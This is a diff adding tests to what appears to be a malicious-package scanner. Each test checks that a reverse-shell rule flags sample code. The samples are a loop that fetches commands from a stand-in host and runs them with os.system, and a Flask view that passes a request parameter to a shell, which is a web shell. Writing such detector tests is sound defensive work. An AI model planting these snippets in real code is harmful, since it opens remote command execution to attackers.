@@ -514,3 +514,29 @@ def test_a_downloaded_script_run_by_a_named_interpreter_flags_with_company(engin
     local = code.replace("requests.get('https://x.example.net/p.txt').text", "'print(1)'")
     archive = sdist({"tidy_strings/s.py": local})
     assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
+
+
+def test_a_loop_running_what_a_server_answers_is_a_command_channel(engine: Engine) -> None:
+    code = (
+        "import os, time, requests\n\n"
+        "while True:\n"
+        "    response = requests.get('https://x.example.net/next')\n"
+        "    command = response.text.strip()\n"
+        "    if command:\n"
+        "        os.system(command)\n"
+        "    time.sleep(30)\n"
+    )
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/agent.py": code}))
+    poll = code.replace("        os.system(command)\n", "        print(command)\n")
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/agent.py": poll})) is None
+
+
+def test_a_web_view_running_its_parameter_as_a_command_is_a_web_shell(engine: Engine) -> None:
+    view = (
+        "import subprocess\nfrom flask import request\n\n"
+        "def parse():\n"
+        "    return subprocess.Popen(request.args.get('parser'), shell=True).wait()\n"
+    )
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": view}))
+    safe = view.replace("request.args.get('parser'), shell=True", "['lxml-check', '--version']")
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": safe})) is None
